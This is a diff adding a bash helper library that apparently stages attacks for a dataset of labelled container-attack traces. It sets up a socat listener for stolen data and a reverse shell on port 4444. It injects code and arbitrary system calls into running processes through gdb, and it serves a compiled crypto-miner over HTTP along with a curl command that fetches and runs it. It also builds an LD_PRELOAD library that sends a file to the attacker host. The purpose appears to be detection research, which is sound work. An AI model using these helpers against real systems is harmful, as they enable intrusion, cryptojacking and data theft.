@@ -1,0 +1,157 @@
+# shellcheck shell=bash
+# SPDX-License-Identifier: Apache-2.0
+#
+# What the attacks of the data set share. Each service's file has its attacks: functions
+# attack_KIND and adaptive_KIND, which are true if the attack reached its goal, and call harm() for
+# each harmful thing that they did. Sourced after lib.bash.
+
+harms=() # what the attack did, as build/bench/label looks for it in the trace
+
+# harm OPERATION PATTERN: an operation that does harm. A run in whose attack no such operation is
+# found, in any of the containers, is no run.
+harm() {
+	harms+=("$1 $2")
+}
+
+# harms_write NAME BEGIN_NS END_NS: $stage/attack.json, for the labels and for the manifest.
+harms_write() {
+	jq -n --arg name "$1" --argjson begin "$2" --argjson until "$3" \
+		--argjson harms "$(as_json_list "${harms[@]}")" \
+		'{name: $name, begin_ns: $begin, end_ns: ($until + 10000000), harms: $harms}' >"$stage/attack.json"
+}
+
+# ---- who listens for the attacker, at $peer_address ----
+
+# thief_begin: where stolen data goes, port 4444 of the peers' address. What comes is in $stage/peer-thief.log.
+thief_begin() {
+	peer_start thief socat -u "TCP-LISTEN:4444,bind=$peer_address,reuseaddr,fork" STDOUT
+	until_true "$patience" port_listens 4444
+}
+
+# thief_shell COMMANDS: the other end of a reverse shell, on the same port. It sends the commands; their output
+# is in $stage/peer-thief.log.
+thief_shell() {
+	peer_start thief env COMMANDS="$1" socat "TCP-LISTEN:4444,bind=$peer_address,reuseaddr" \
+		'SYSTEM:printenv COMMANDS; cat >&2'
+	until_true "$patience" port_listens 4444
+}
+
+# thief_got PATTERN: waits for it.
+thief_got() {
+	until_true 20 grep -qE -- "$1" "$stage/peer-thief.log"
+}
+
+# port_listens PORT: something in one of the two networks of the run accepts TCP connections there.
+port_listens() {
+	grep -qs "$(printf ':%04X 0*:0000 0A' "$1")" "/proc/$network_pid/net/"tcp{,6} "/proc/$peers_network_pid/net/"tcp{,6}
+}
+
+# ---- code inside a process ----
+
+# inject CONTAINER PATTERN EXPRESSION: code inside a process of the container, called by a debugger of the
+# host, as an exploit's payload would run there.
+inject() {
+	[ -n "$(tasks_named "$1" "$2")" ] || { echo "no process of $1 is called $2" && return 1; }
+	inject_pid "$(tasks_named "$1" "$2" | head -n 1)" "$3"
+}
+
+# inject_pid PID EXPRESSION…: the same for the host's pid of a process.
+inject_pid() {
+	local pid=$1 e commands=()
+	shift
+	for e in "$@"; do
+		commands+=(-ex "$e")
+	done
+	timeout 60 gdb -q -nx -batch -p "$pid" -ex 'set confirm off' -ex 'set unwindonsignal on' \
+		"${commands[@]}" -ex detach </dev/null
+}
+
+# inject_call CONTAINER PATTERN NUMBER ARGUMENT…: one system call in the main thread of a process, whatever its
+# language: a debugger sets the registers, and steps over the instruction that the thread waits in. An argument
+# is a number; or the address of what it gives: text in double quotes, or words: and numbers of 64 bits with
+# commas between them. Prints "returned N"; false if N is an error, or if the thread never waits.
+inject_call() {
+	local pid
+	pid=$(tasks_named "$1" "$2" | head -n 1)
+	inject_script "${@:3}" >"$stage/inject.gdb"
+	for _ in {1..20}; do
+		timeout 60 gdb -q -nx -batch -p "$pid" -x "$stage/inject.gdb" </dev/null >"$stage/inject.log" 2>&1
+		grep -q ^returned "$stage/inject.log" && break
+		sleep 0.3
+	done
+	grep -E '^returned [0-9]+$' "$stage/inject.log" || { tail -n 3 "$stage/inject.log" && false; }
+}
+
+# inject_script NUMBER ARGUMENT…: what the debugger is to do. The data of arguments lies below the stack.
+# shellcheck disable=SC2016
+inject_script() {
+	local number=$1 registers=(rdi rsi rdx r10 r8 r9) i=0 place=256 a r
+	shift
+	printf '%s\n' 'set confirm off' 'set language c' 'handle all nostop noprint pass' 'set scheduler-locking on' \
+		'if *(unsigned short *)($rip - 2) != 0x050f' 'detach' 'quit' 'end'
+	for r in rax rip orig_rax r11 rcx "${registers[@]}"; do
+		printf 'set $old_%s = $%s\n' "$r" "$r"
+	done
+	for a in "$@"; do
+		place=$((place + 128))
+		r=${registers[i]}
+		i=$((i + 1))
+		case $a in
+		'"'*) inject_words "$(printf '%b\0' "${a:1:-1}" | od -An -v -tx8 -w8 | sed 's/ */0x/')" "$r" $place ;;
+		words:*) inject_words "${a#words:}" "$r" $place ;;
+		*) printf 'set $%s = %s\n' "$r" "$a" ;;
+		esac
+	done
+	# -1: the kernel does not begin again the call that the thread waited in, until the old value is back.
+	printf '%s\n' 'set $orig_rax = -1' "set \$rax = $number" 'set $rip = $rip - 2' 'stepi' \
+		'printf "returned %ld\n", (long)$rax'
+	for r in rip r11 rcx "${registers[@]}" rax orig_rax; do
+		printf 'set $%s = $old_%s\n' "$r" "$r"
+	done
+	echo detach
+}
+
+# inject_words WORDS REGISTER PLACE
+# shellcheck disable=SC2016
+inject_words() {
+	local word offset=0
+	for word in ${1//,/ }; do
+		printf 'set *(long *)($rsp - %d) = %s\n' $(($3 - offset)) "$word"
+		offset=$((offset + 8))
+	done
+	printf 'set $%s = $rsp - %d\n' "$2" "$3"
+}
+
+# The mining pool, on port 3333 of the peers' address, and the miner to drop: the file $miner.
+pool_begin() {
+	miner=$stage/miner
+	gcc -O1 -static -s -o "$miner" "$here/miner.c"
+	peer_start pool socat -u "TCP-LISTEN:3333,bind=$peer_address,reuseaddr,fork" STDOUT
+	until_true "$patience" port_listens 3333
+}
+
+# The pool has a miner.
+pool_got() {
+	until_true 20 grep -q login "$stage/peer-pool.log"
+}
+
+# armoury_begin: the pool; and on port 8081 of the peers' address, the miner can be fetched.
+armoury_begin() {
+	pool_begin
+	mkdir "$stage/armoury"
+	mv "$miner" "$stage/armoury/miner"
+	in_network python3 -m http.server --bind "$peer_address" --directory "$stage/armoury" 8081 \
+		</dev/null >"$stage/peer-armoury.log" 2>&1 &
+	children[$!]=1
+	until_true "$patience" port_listens 8081
+}
+
+# miner_commands PATH: for a shell of a container that has curl: drop the miner there, and run it.
+miner_commands() {
+	echo "curl -so $1 http://$peer_address:8081/miner; chmod 755 $1; $1 $peer_address 3333 3"
+}
+
+# preload_library FILE PATH: a library that sends the file PATH of the container to the thief as it is loaded.
+preload_library() {
+	gcc -shared -fPIC -O1 -DPATH="\"$2\"" -DADDRESS="\"$peer_address\"" -DPORT=4444 -o "$1" "$here/preload.c"
+}
